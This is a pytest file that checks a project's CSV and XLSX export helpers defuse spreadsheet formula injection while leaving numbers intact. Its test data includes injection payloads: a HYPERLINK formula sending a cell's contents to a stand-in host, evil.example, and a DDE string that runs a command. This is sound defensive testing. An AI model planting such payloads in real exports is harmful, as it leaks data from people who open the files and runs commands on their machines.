"""Spreadsheet cells: text a spreadsheet would run as a formula is neutralised; numbers stay."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from trace.reports.cells import SafeCsvWriter, SafeDictWriter, csv_cell, xlsx_append

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_starts_a_formula_gets_a_leading_quote(text: str) -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["ok", text])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["ok", "'" + text]


@pytest.mark.parametrize(
    ("value", "written"),
    [(-5, "-5"), (2.5, "2.5"), (Decimal("-5.50"), "-5.50"), ("-5", "-5"), ("+1.5e3", "+1.5e3")],
)
def test_csv_numbers_and_plain_numeric_text_stay_as_they_are(value: object, written: str) -> None:
    out = io.StringIO()
    SafeDictWriter(out, fieldnames=["n", "empty"]).writerow({"n": value, "empty": None})
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, ""]
    assert csv_cell(value) == value or isinstance(value, Decimal)


def test_xlsx_text_is_a_string_never_a_formula_and_numbers_are_numbers() -> None:
    book = Workbook()
    xlsx_append(book.active, [*HOSTILE, -5, Decimal("12.5"), "plain", "bad\x01char"])
    data = io.BytesIO()
    book.save(data)
    row = list(load_workbook(io.BytesIO(data.getvalue())).active[1])
    for cell, text in zip(row, HOSTILE, strict=False):
        # XML may carry a carriage return through or turn it into a line feed.
        assert cell.data_type == "s"
        assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")
        assert cell.quotePrefix
    assert [(c.value, c.data_type) for c in row[len(HOSTILE) : len(HOSTILE) + 2]] == [
        (-5, "n"),
        (12.5, "n"),
    ]
    assert (row[-2].value, row[-2].quotePrefix) == ("plain", False)
    assert row[-1].value == "badchar"


def test_every_csv_and_xlsx_writer_goes_through_the_cells_module() -> None:
    bare = re.compile(r"csv\.(?:writer|DictWriter)\(|sheet\.append\(")
    found = [
        f"{path.relative_to(ROOT)}: {match}"
        for package in ("trace", "stamps", "marketplace")
        for path in (ROOT / package).rglob("*.py")
        if path.name != "cells.py"
        for match in bare.findall(path.read_text(encoding="utf-8"))
    ]
    assert found == []
